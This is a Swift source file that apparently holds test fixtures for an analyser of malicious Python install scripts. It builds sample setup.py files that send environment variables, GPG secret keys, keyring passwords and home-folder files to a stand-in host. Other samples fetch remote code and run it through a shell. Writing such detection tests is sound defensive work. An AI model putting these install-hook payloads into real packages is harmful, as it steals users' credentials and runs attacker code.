import SallyportAnalysis

/// What commands and folders give, and what reaches a shell unseen.
extension InstallSnippets {
    private static func posts(_ value: String) -> String {
        """
        import glob, os, subprocess, urllib.request
        from setuptools import setup
        data = \(value)
        urllib.request.urlopen("https://x.example.invalid/", data=data)
        setup(name="sample")
        """
    }

    /// What commands and folders give that are nobody else's business.
    static let outputs: [Snippet] =
        [
            "subprocess.check_output(['sh', '-c', 'export -p'])",
            "subprocess.check_output(['bash', '-c', 'declare -x'])",
            "subprocess.check_output('set', shell=True)", "subprocess.check_output(['ps', 'eww'])",
            "subprocess.check_output(['node', '-p', 'process.env'])",
            "subprocess.check_output(['gpg', '--armor', '--export-secret-keys'])",
            "open('/proc/self/environ', 'rb').read()", "open(glob.glob(os.path.expanduser('~/.*'))[0], 'rb').read()",
            "open(os.listdir(os.path.expanduser('~'))[0], 'rb').read()",
            "subprocess.check_output('tar c ~', shell=True)",
        ].map { Snippet($0, .chainExfiltration, source: posts($0)) } + [
            Snippet(
                "walks the user's folder",
                .chainExfiltration,
                source: """
                    import os, urllib.request
                    from setuptools import setup
                    for folder, _, names in os.walk(os.path.expanduser("~")):
                        for name in names:
                            urllib.request.urlopen("https://x.example.invalid/", data=open(os.path.join(folder, name), "rb").read())
                    setup(name="sample")
                    """
            ),
            Snippet(
                "asks the keyring",
                .chainExfiltration,
                source: """
                    import keyring, urllib.request
                    from setuptools import setup
                    urllib.request.urlopen("https://x.example.invalid/", data=keyring.get_password("x", "y").encode())
                    setup(name="sample")
                    """
            ),
        ]

    /// What is fetched reaches a shell by a way that no value is followed on.
    static let unstated: [Snippet] = [
        "try:\n    raise Exception(get())\nexcept Exception as error:\n    os.system(str(error))",
        "p = subprocess.Popen(['sh'], stdin=subprocess.PIPE)\np.communicate(get())",
        "def path(): return os.path.join(tempfile.gettempdir(), 'x')\nopen(path(), 'w').write(get())\nsubprocess.call(['sh', path()])",
    ].map { body in
        Snippet(
            body,
            .hookUnreadable,
            source: """
                import os, subprocess, tempfile, urllib.request
                from setuptools import setup
                def get():
                    return urllib.request.urlopen("https://x.example.invalid/").read()
                \(body)
                setup(name="sample")
                """
        )
    }
}
